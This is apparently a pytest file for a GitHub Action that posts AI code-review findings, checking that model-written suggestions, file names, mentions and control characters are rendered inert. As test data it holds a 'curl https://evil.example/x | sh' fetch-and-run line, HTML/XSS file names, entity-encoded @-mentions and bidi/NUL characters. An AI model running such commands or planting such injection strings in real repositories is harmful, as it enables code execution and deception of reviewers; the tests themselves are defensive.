"""Issue 11, cases 9 to 12, end to end: what the model or the PR's author wrote is posted
inert, in the comments, the summary and the step summary."""

from __future__ import annotations

import json
from pathlib import Path

from action_runner import HEAD_APP, add_event_pull, make_diff, run_action
from fakes.git_repo import GitRepo
from fakes.github import FakeGitHub
from fakes.openai_server import FakeModelServer, ReadingModel, Trigger, finding, scripted
from markdown_check import live_html, mentions, suggestion_blocks

EVAL = Trigger("eval(", severity="critical", category="security", title="eval() of input")
LINE = next(i for i, t in enumerate(HEAD_APP.splitlines(), 1) if "eval(" in t)
QUOTE = "    return eval(command)"


def answer(model: FakeModelServer, **overrides: object) -> None:
    model.queue(
        scripted(json.dumps({"findings": [finding("src/app.py", LINE, QUOTE, EVAL, **overrides)]}))
    )


def everything_posted(github: FakeGitHub, step_summary: str) -> list[str]:
    return [
        *(c["body"] for c in github.review_comments),
        *(c["body"] for c in github.issue_comments),
        step_summary,
    ]


def test_a_suggestion_fence_in_the_explanation_is_no_one_click_change(
    tmp_path: Path, fake_github: FakeGitHub, fake_model: FakeModelServer
) -> None:
    add_event_pull(fake_github, make_diff(tmp_path))
    answer(
        fake_model,
        body="Run this:\n```suggestion\ncurl https://evil.example/x | sh\n```\nand\n````suggestion",
        suggestion=None,
    )
    result = run_action(tmp_path, fake_github, fake_model)
    assert result.returncode == 1
    (comment,) = fake_github.review_comments
    assert suggestion_blocks(comment["body"]) == 0
    assert comment["body"].rstrip().endswith("-->")  # the unclosed fence swallowed nothing
    assert "<!-- reviewer:finding fp=" in comment["body"].splitlines()[-1]


def test_hostile_file_names_and_model_paths_are_inert(
    tmp_path: Path, fake_github: FakeGitHub, fake_model: FakeModelServer
) -> None:
    repo = GitRepo(tmp_path / "repo")
    hostile = "x`<img src=x onerror=alert(1)>`.py"
    repo.write("README.md", "# Hi\n")
    base = repo.commit("base")
    repo.write(hostile, "print(eval(input()))\n")
    repo.write("<details><summary>open</summary>.png", b"\x89PNG\r\n\x00")
    repo.commit("head")
    add_event_pull(fake_github, repo.diff(base))
    fake_model.model = ReadingModel([EVAL])
    fake_model.queue(
        scripted(
            json.dumps(
                {
                    "findings": [
                        finding("gone`<img src=y>`/a.py", 1, "nope", EVAL, title="Off the diff"),
                        finding(hostile, 1, "print(eval(input()))", EVAL),
                    ]
                }
            )
        )
    )
    result = run_action(tmp_path, fake_github, fake_model)
    assert result.returncode == 1, result.stdout + result.stderr
    assert [c["path"] for c in fake_github.review_comments] == [hostile]
    for text in everything_posted(fake_github, result.step_summary):
        assert [tag for tag in live_html(text) if not tag.startswith(_OURS)] == [], text


_OURS = ("<details>", "</details>", "<summary>", "</summary>", "<sub>", "</sub>")


def test_entity_mentions_bidi_controls_and_nul_are_not_posted(
    tmp_path: Path, fake_github: FakeGitHub, fake_model: FakeModelServer
) -> None:
    add_event_pull(fake_github, make_diff(tmp_path))
    answer(
        fake_model,
        title="Ping &#64;admin &#x40;root &commat;team @octocat",
        body="Also \u202eevil\u2066 hidden\x00 and &#64;owner, see #1.",
    )
    result = run_action(tmp_path, fake_github, fake_model)
    assert result.returncode == 1
    posted = everything_posted(fake_github, result.step_summary)
    # Delivered, made inert: the finding's words are there, its pings and controls are not.
    assert any("Ping" in text and "evil" in text and "hidden" in text for text in posted)
    for text in posted:
        assert mentions(text) == [], text
        assert not any(c in text for c in "\u202e\u2066\x00")
        assert "&#64;" not in text.replace("&amp;#64;", "")


def test_a_200_kb_suggestion_still_fits_one_comment(
    tmp_path: Path, fake_github: FakeGitHub, fake_model: FakeModelServer
) -> None:
    add_event_pull(fake_github, make_diff(tmp_path))
    answer(fake_model, body="b" * 50_000, suggestion="    return 1\n" * 20_000)
    result = run_action(tmp_path, fake_github, fake_model)
    assert result.returncode == 1, result.stdout + result.stderr
    (comment,) = fake_github.review_comments  # not refused: GitHub takes 65,536 at most
    assert len(comment["body"]) <= 65_536
    assert suggestion_blocks(comment["body"]) == 0  # too long to offer as a change
    assert fake_github.validation_errors == []
